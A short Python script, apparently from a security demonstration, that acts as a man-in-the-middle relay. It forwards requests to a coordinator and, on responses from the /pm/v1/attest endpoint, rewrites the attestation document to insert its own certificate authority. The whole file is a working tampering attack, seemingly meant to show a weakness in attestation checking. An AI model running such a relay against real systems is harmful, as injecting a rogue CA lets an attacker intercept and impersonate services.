#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The man in the middle of the demo: passes everything on to a coordinator, and puts a certificate authority of his own
into the document that its evidence goes with. relay.py URL CERTIFICATE"""
import base64
import json
import sys
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def forge(answer):
    """The answer to a request for evidence, with our certificate authority."""
    message = json.loads(answer)
    document = json.loads(base64.b64decode(message["Document"]))
    with open(sys.argv[2], "rb") as f:
        document["mesh_ca"] = base64.b64encode(f.read()).decode()
    text = json.dumps(document, separators=(",", ":"))
    message["Document"] = base64.b64encode(text.encode()).decode()
    return json.dumps(message).encode()


class Relay(BaseHTTPRequestHandler):
    def pass_on(self):
        length = int(self.headers.get("Content-Length", 0))
        body = self.rfile.read(length) if self.command == "POST" else None
        request = urllib.request.Request(sys.argv[1] + self.path, body, {"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                status, kind, answer = response.status, response.headers["Content-Type"], response.read()
        except urllib.error.HTTPError as e:
            status, kind, answer = e.code, e.headers["Content-Type"], e.read()
        if status == 200 and self.path == "/pm/v1/attest":
            answer = forge(answer)
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST = pass_on

    def log_message(self, *_):
        pass


server = ThreadingHTTPServer(("127.0.0.1", 0), Relay)
print("listening on=%s:%d" % server.server_address, flush=True)
server.serve_forever()
